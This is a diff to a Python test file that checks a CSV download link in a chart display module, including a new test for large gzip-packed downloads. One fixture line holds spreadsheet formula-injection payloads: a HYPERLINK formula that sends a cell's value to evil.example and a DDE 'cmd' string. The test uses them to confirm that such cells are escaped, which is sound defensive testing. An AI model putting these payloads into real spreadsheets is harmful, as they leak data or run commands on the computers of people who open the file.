@@ -3,7 +3,6 @@ whatever column type holds it."""
 
 from __future__ import annotations
 
-import base64
 import io
 
 import lxml.html
@@ -19,9 +18,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!
 
 def _csv(markup: str) -> pl.DataFrame:
     link = lxml.html.fromstring(markup).xpath("//a[@class='tass-download']")[0]
-    head, payload = link.get("href").split(",", 1)
-    assert head == "data:text/csv;charset=utf-8;base64"
-    text = base64.b64decode(payload).decode("utf-8")
+    text = display.download_text(link)
     return pl.read_csv(io.StringIO(text.lstrip("\ufeff")), infer_schema=False)
 
 
@@ -97,3 +94,31 @@ def test_a_line_separator_in_a_label_never_stops_a_chart_drawing(tmp_path, kind)
     # the data download keeps the labels as they were
     got = _csv(display.chart_html(chart.to_dict()))
     assert set(SEPARATED) <= set(got["name"].to_list())
+
+
+def test_a_large_download_is_packed_guarded_and_unpacked_by_the_browser_on_click(tmp_path):
+    from conftest import dump_dom
+
+    rows = 5_000
+    frame = pl.DataFrame({"n": list(range(rows)), "name": ["Лавров", HOSTILE[0]] * (rows // 2)})
+    link = display.csv_download(frame, name="big")
+    assert "data-csv-gzip" in link and len(link) < len(display._csv_text(frame)) / 4
+    text = display.download_text(link)
+    assert text.startswith("\ufeff") and text.count("\n") == rows + 1
+    assert _cells(pl.read_csv(io.StringIO(text[1:]), infer_schema=False)).count(
+        "'" + HOSTILE[0]) == rows // 2
+    # the browser unpacks it on the click: the second click finds the file ready
+    page = tmp_path / "page.html"
+    page.write_text(f"""<!doctype html><html><body>{link}<pre id="out">not clicked</pre>
+<script>
+var a = document.querySelector("a.tass-download");
+a.click = function () {{
+  fetch(a.href).then(function (r) {{ return r.text(); }}).then(function (t) {{
+    document.getElementById("out").textContent =
+      "ready " + a.dataset.ready + " lines " + t.split("\\n").length + " " + t.slice(0, 6);
+  }});
+}};
+a.dispatchEvent(new MouseEvent("click", {{bubbles: true, cancelable: true}}));
+</script></body></html>""", encoding="utf-8")
+    out = lxml.html.fromstring(dump_dom(page, tmp_path)).get_element_by_id("out").text_content()
+    assert out == f"ready 1 lines {rows + 2} n,name"
